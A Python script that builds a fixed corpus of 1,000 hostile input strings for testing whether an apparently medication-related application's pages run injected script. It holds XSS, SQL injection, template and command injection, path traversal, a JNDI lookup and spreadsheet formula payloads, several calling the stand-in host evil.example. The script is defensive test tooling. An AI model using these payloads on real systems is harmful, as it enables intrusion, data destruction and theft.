#!/usr/bin/env python3
"""Writes hostile.json: 1,000 texts that somebody may put into an order, a reason or a name to break what shows them.

Each is `{"kind": …, "text": …}`, valid where the API takes text, the same on every run. A script that runs sets
`window.hostile`: a page on which that is set has lost. Texts of at most 200 bytes fit everywhere, of 512 into an item's
name, of 1,000 into a reason, the others into instructions and remarks. `--check` only compares.
"""

import itertools
import json
import pathlib
import sys
import urllib.parse

PAGE = pathlib.Path(__file__).resolve().parent / "hostile.json"
COUNT = 1_000
LONGEST = 8_192  # bytes that instructions and remarks take
RUN = "window.hostile=1"


def tags():
    """Markup that runs a script where text is taken for HTML."""
    events = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart", "onpointerenter", "onwheel"]
    shapes = [
        "<img src=x {e}={r}>", "<svg {e}={r}>", "<svg><animate {e}={r} attributeName=x dur=1s>", "<details open {e}={r}>", "<body {e}={r}>",
        "<input autofocus {e}={r}>", "<video><source {e}={r}></video>", "<iframe {e}={r}></iframe>", "<a href=# {e}={r}>x</a>", "<marquee {e}={r}>",
        "<select autofocus {e}={r}>", "<object data=x {e}={r}>", "<style {e}={r}></style>", "<x {e}={r} style=animation-name:x>", "<audio src=x {e}={r}>",
    ]
    for shape, event in itertools.product(shapes, events):
        yield shape.format(e=event, r=RUN)


def names():
    """Names that look right at first."""
    for text in tags():
        yield f"Rex {text} 1 mg"


def scripts():
    plain = f"<script>{RUN}</script>"
    yield from [
        plain, plain.upper().replace("WINDOW.HOSTILE", "window.hostile"), f"<ScRiPt>{RUN}</sCrIpT>", f"<script >{RUN}</script >", f"<script/x>{RUN}</script>",
        f"<script\n>{RUN}</script>", f"<script\t>{RUN}</script>", f"<<script>{RUN}//<</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<script>{RUN}",
        f"</script>{plain}", f"</title>{plain}", f"</textarea>{plain}", f"</style>{plain}", f"</noscript>{plain}", f"</template>{plain}", f"</option></select>{plain}",
        f"-->{plain}", f"--!>{plain}", f"]]>{plain}", f"<!--><script>{RUN}</script-->", f"<![CDATA[{plain}]]>", f"<?xml version='1.0'?>{plain}", f"<noscript><p title='</noscript>{plain}'>",
        f"<math><mtext></p><style><img src=x onerror={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><style><img src=x onerror={RUN}></style></svg>", f"<template>{plain}</template>",
        f"<script src=data:text/javascript,{RUN}></script>", "<script src=//evil.example/x.js></script>", f"<script type=module>{RUN}</script>", f"<iframe srcdoc='{plain}'></iframe>",
        f"<object data='data:text/html,{plain}'></object>", f"<embed src='data:text/html,{plain}'>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<form action=//evil.example><input type=submit>", "<style>*{display:none}</style>", "<style>@import '//evil.example/x.css'</style>",
        "<div style='position:fixed;inset:0;background:red'>", "<div style=background:url(//evil.example/x)>", "<plaintext>", "<xmp>", "<listing>", "<frameset>", "<dialog open>", "<img src=//evil.example/pixel>",
    ]
    for wrap in ("\"{}", "'{}", "\">{}", "'>{}", "`>{}", "\"/>{}", "' />{}", "&quot;>{}", "&#34;>{}", "\\\">{}", "\\'>{}", "\u2019>{}", " {}", "\u00a0{}", "\x0b{}", "{}<!--", "{}//", "${{{}}}", "{{{{{}}}}}"):
        yield wrap.format(plain)
        yield wrap.format(f"<img src=x onerror={RUN}>")


def attributes():
    for quote in ('"', "'", "`", "", "&quot;", "&#39;", "\\\"", "\\'", "\u201c", "\u2018"):
        for event in ("onmouseover", "onfocus autofocus", "onclick", "style=x:expression", "accesskey=x onclick", "onpointerover", "ontransitionend"):
            name, _, rest = event.partition(" ")
            yield f"{quote} {name}={RUN} {rest} x={quote}"


def links():
    bodies = [f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"\x01javascript:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}", f"javascript\t:{RUN}",
              f"javascript://%0a{RUN}", f"javascript://evil.example/%0a{RUN}", f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaG9zdGlsZT0xPC9zY3JpcHQ+",
              f"vbscript:{RUN}", "//evil.example", "\\\\evil.example", "https:evil.example", "https://evil.example@dosette.example", "https://dosette.example.evil.example", "file:///etc/passwd",
              "view-source:javascript:1", f"jar:javascript:{RUN}!/", "blob:null/x", "mailto:a@evil.example?bcc=b@evil.example", "tel:+4712345678;x", "https://xn--80ak6aa92e.com", "http://0x7f000001/"]
    yield from bodies
    for body in bodies:
        yield f"<a href=\"{body}\">x</a>"
        yield f"[click]({body})"


def encoded():
    plain = f"<script>{RUN}</script>"
    image = f"<img src=x onerror={RUN}>"
    for text in (plain, image, f"\" onmouseover={RUN} x=\"", f"javascript:{RUN}"):
        yield "".join(f"&#{ord(c)};" for c in text)
        yield "".join(f"&#x{ord(c):x};" for c in text)
        yield "".join(f"&#{ord(c):07d}" for c in text)
        yield text.replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
        yield text.replace("<", "&amp;lt;").replace(">", "&amp;gt;")
        yield urllib.parse.quote(text)
        yield urllib.parse.quote(urllib.parse.quote(text))
        yield "".join(f"\\u{ord(c):04x}" for c in text)
        yield "".join(f"\\x{ord(c):02x}" for c in text)
        yield text.replace("<", "\uff1c").replace(">", "\uff1e")
        yield text.replace("<", "\u2039").replace(">", "\u203a")
        yield text.replace("<", "%3C").replace(">", "%3E")
        yield text.replace("<", "+ADw-").replace(">", "+AD4-")
        yield text.replace("s", "\u017f")
        yield text.replace("<", "<\u200b")
        yield "\ufeff" + text
        yield text.replace("<", "\x00<")
        yield text.replace("script", "scr\x00ipt")


def queries():
    for quote, tail in itertools.product(("'", '"', "')", "\\'", "%27", "\u02bc", ";", "`"), (" OR '1'='1", " OR 1=1--", "; DROP TABLE journal;--", " UNION SELECT entry FROM journal--", "/**/OR/**/1=1#", " AND randomblob(1e9)--", "||(SELECT 1)||", " LIKE '%")):
        yield f"x{quote}{tail}"
    yield from ["%", "_", "%_%", "\\", "x' --", "NULL", "nil", "None", "undefined", "true", "NaN", "0x41", "1e308", "-0", "[object Object]", "__proto__", "constructor", "toString", "hasOwnProperty"]


def templates():
    cores = ["7*7", "self", "config", "''.__class__", "request", "@env", "constructor.constructor('window.hostile=1')()", "#this", "T(java.lang.Runtime)", "system('id')"]
    for core in cores:
        for shape in ("{{{{{}}}}}", "{{{{{{{}}}}}}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "{{% {} %}}", "[[{}]]", "@({})", "$({})", "{{{{=<% %>=}}}}<% {} %>"):
            yield shape.format(core)
    yield from ["{{", "}}", "{{{", "}}}", "{{#each}}", "{{/if}}", "{{>partial}}", "{{!comment", "{{=| |=}}", "%s%s%s%n", "%1$n", "%99999d", "{0}", "{0.__class__}", "\\(window)", "$(id)", "`id`", "; id", "| id", "&& id", "../../etc/passwd", "..\\..\\x", "file\x00.txt", "${jndi:ldap://evil.example/x}"]


def tables():
    for mark in "=+-@\t\r|%":
        for call in ("1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"//evil.example\",\"x\")", "IMPORTXML(\"//evil.example\",\"//a\")", "WEBSERVICE(\"//evil.example\")", "SUM(1,1)*cmd|' /C calc'!A0"):
            yield f"{mark}{call}"
    yield from ["a,b,c", "a;b", 'a"b', '"a",""b""', "a\r\nb,c", "a\nb", "\ta", "sep=;"]


def marks():
    """Characters that hide, turn or break what stands around them."""
    specials = {
        "right to left override": "\u202e", "left to right override": "\u202d", "right to left isolate": "\u2067", "pop isolate": "\u2069", "right to left mark": "\u200f", "zero width space": "\u200b",
        "zero width joiner": "\u200d", "zero width non-joiner": "\u200c", "word joiner": "\u2060", "byte order mark": "\ufeff", "soft hyphen": "\u00ad", "line separator": "\u2028", "paragraph separator": "\u2029",
        "next line": "\u0085", "hangul filler": "\u3164", "object replacement": "\ufffc", "replacement": "\ufffd", "not a character": "\uffff", "interlinear": "\ufff9", "tag": "\U000e0041", "variation": "\ufe0f",
        "private use": "\ue000", "combining": "\u0301", "enclosing": "\u20dd", "mongolian vowel": "\u180e", "braille blank": "\u2800", "no-break space": "\u00a0", "ideographic space": "\u3000", "figure space": "\u2007",
    }
    for mark in specials.values():
        yield f"Melox{mark}icam"
        yield f"{mark}Meloxicam {mark}1 mg{mark}"
        yield mark * 40
        yield f"HD-1{mark}gpj.exe"
    for code in [*range(0x00, 0x20), 0x7F, *range(0x80, 0xA0)]:
        yield f"a{chr(code)}b"
    yield from ["Z" + "\u0300\u0301\u0302\u0303\u0304" * 40 + "algo", "\u0e49" * 100, "\ufdfd" * 20, "\U0001242b" * 20, "\u202e\u202d" * 50, "admin\u0430", "\u0410\u0456no", "p\u0430ypal"]


def alphabets():
    yield from [
        "\u0645\u0631\u062d\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645", "\u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd", "\u0645\u064a\u0644\u0648\u0643\u0633\u064a\u0643\u0627\u0645 1.5 mg/ml", "(\u05d0) [\u05d1] {\u05d2}", "\u0661\u0662\u0663\u0664\u0665", "\u7f8e\u6d1b\u6614\u5eb7", "\u30e1\u30ed\u30ad\u30b7\u30ab\u30e0", "\uba5c\ub85d\uc2dc\uce84",
        "\u0e40\u0e21\u0e25\u0e47\u0e2d\u0e01\u0e0b\u0e34\u0e41\u0e04\u0e21", "\u092e\u0947\u0932\u0949\u0915\u094d\u0938\u0940\u0915\u0948\u092e", "\u041c\u0435\u043b\u043e\u043a\u0441\u0438\u043a\u0430\u043c", "\u039c\u03b5\u03bb\u03bf\u03be\u03b9\u03ba\u03ac\u03bc\u03b7", "\u1e9e\u00df\u0130\u0131\u0149\ufb03", "\U0001d544\U0001d556\U0001d55d", "\u24c2\u24d4\u24db",
        "\U0001f436", "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f3f3\ufe0f\u200d\U0001f308", "\U0001f1eb\U0001f1ee\U0001f1f8\U0001f1ea", "\U0001f44d\U0001f3ff", "1\ufe0f\u20e3", "\U0001f436" * 60, "\U0001f1fa" * 41, "e\u0301", "\u00e9", "\u212b\u00c5A\u030a", "\uff8e\uff9f", "\u0958", "\u2126",
        "Gr\u00fc\u00dfe aus \u00d6sterreich", "\u00c5se R\u00f8ed", "Se\u00e1n O\u2019Brien", "O'Neill", "D\u2019Artagnan \"Jr\"", "Null", "Test <test@example.org>", "a & b < c > d", "&amp;", "&lt;b&gt;", "&#x41;", "&nbsp;", "&notanentity;", "100 %", "50 \u00b5g", "\u00bd tablet", "\u2265 5 kg", "\u201cquoted\u201d", "tab\there", "two\nlines", "two\r\nlines", " leading", "trailing ", "  ", ".", "-", "0",
    ]


def long():
    yield "x" * 512
    yield "x" * 1_000
    yield "x" * LONGEST
    yield "\U0001f436" * (LONGEST // 4)
    yield "a " * (LONGEST // 2)
    yield "<b>" * (LONGEST // 3)
    yield "&" * LONGEST
    yield "\n" * 1_000
    yield "<script>" * 100 + RUN
    yield "(" * 4_000
    yield "\u0301" * 4_000
    yield ("W" * 100 + "\u00ad") * 60
    yield f"<img src=x onerror={RUN}>" * 200
    yield "\u202e" * 300 + "end"


def texts():
    kinds = [("script", scripts), ("attribute", attributes), ("link", links), ("encoded", encoded), ("query", queries), ("template", templates),
             ("table", tables), ("mark", marks), ("alphabet", alphabets), ("long", long), ("tag", tags), ("name", names)]
    seen, found = set(), []
    for kind, group in kinds:
        for text in group():
            if text and text not in seen and len(text.encode()) <= LONGEST:
                seen.add(text)
                found.append({"kind": kind, "text": text})
    # The last kind has more than enough of the same shape.
    if len(found) < COUNT:
        sys.exit(f"hostile.py: only {len(found)} texts")
    return found[:COUNT]


def main():
    page = "[\n" + ",\n".join(json.dumps(text, ensure_ascii=True) for text in texts()) + "\n]\n"
    if "--check" in sys.argv[1:]:
        sys.exit(0 if PAGE.read_text(encoding="utf-8") == page else "hostile.json is older than hostile.py: make hostile")
    PAGE.write_text(page, encoding="utf-8")
    print(f"wrote {PAGE.name}: {COUNT} texts")


main()
